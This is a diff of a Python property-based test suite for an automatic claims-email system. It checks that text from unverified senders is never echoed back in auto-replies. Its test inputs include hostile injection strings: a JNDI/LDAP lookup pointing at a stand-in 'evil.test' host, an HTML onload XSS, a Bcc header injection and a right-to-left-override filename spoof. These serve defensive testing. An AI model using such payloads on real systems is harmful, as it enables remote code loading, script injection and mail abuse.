@@ -32,6 +32,8 @@ OUR_HEADERS = (
     "From: Claims <claims@logistics.example> Auto-Submitted: auto-replied"
     " auto-generated X-Auto-Response-Suppress: DR, RN, NRN, OOF, AutoReply"
     " X-Claims-Mailer: claims-worker Content-Language: en MIME-Version: 1.0 Subject: "
+    " Content-Type: text/html; charset=utf-8 Content-Transfer-Encoding:"
+    " quoted-printable base64"
 )
 UNPROVEN = ("on file, not authenticated", "a stranger", "nobody proves anything")
 
@@ -47,7 +49,7 @@ _lines = st.text(
         "%s%n${jndi:ldap://evil.test}",
         'x" onload="alert(1)',
         "Bcc: all@evil.test",
-        "=?utf-8?q?quoted=20words?=",
+        "=?utf-8?q?zigzag=20vexing?=",
         "\u202egnp.exe call +1 900 555 0199",
         "M900001+ORD-20261104-9999+Claim",
     ]
@@ -101,7 +103,7 @@ def said(email: Email) -> str:
     The id of the mail that is answered stays in In-Reply-To and References (RFC 5322
     §3.6.4), which no program shows.
     """
-    if email.raw is None:
+    if not email.raw:
         return ""
     top, _, rest = email.raw.partition(b"\r\n\r\n")
     unfolded = re.sub(r"\r\n[ \t]+", " ", top.decode("ascii")).splitlines()
@@ -211,11 +213,7 @@ def test_no_text_chosen_by_an_unproven_sender_is_in_any_automatic_email(
 
 
 def test_the_search_finds_an_echo() -> None:
-    mail = dict.fromkeys(
-        ("name", "subject", "body", "file", "header"), "quixotic zebra"
-    )
-    body = b"Subject: hello\r\n\r\nDear Quixotic, hello."
-    email = type("Sent", (), {"raw": body})
+    mail: dict[str, Any] = dict.fromkeys(PARTS, "quixotic zebra")
 
-    assert "quix" in echoed(mail, 1, [email])  # type: ignore[list-item]
-    assert OPENING
+    assert "quix" in echoed(mail, 1, ["Dear Quixotic, hello."])
+    assert echoed(mail, 1, ["Dear member, hello."]) == set()
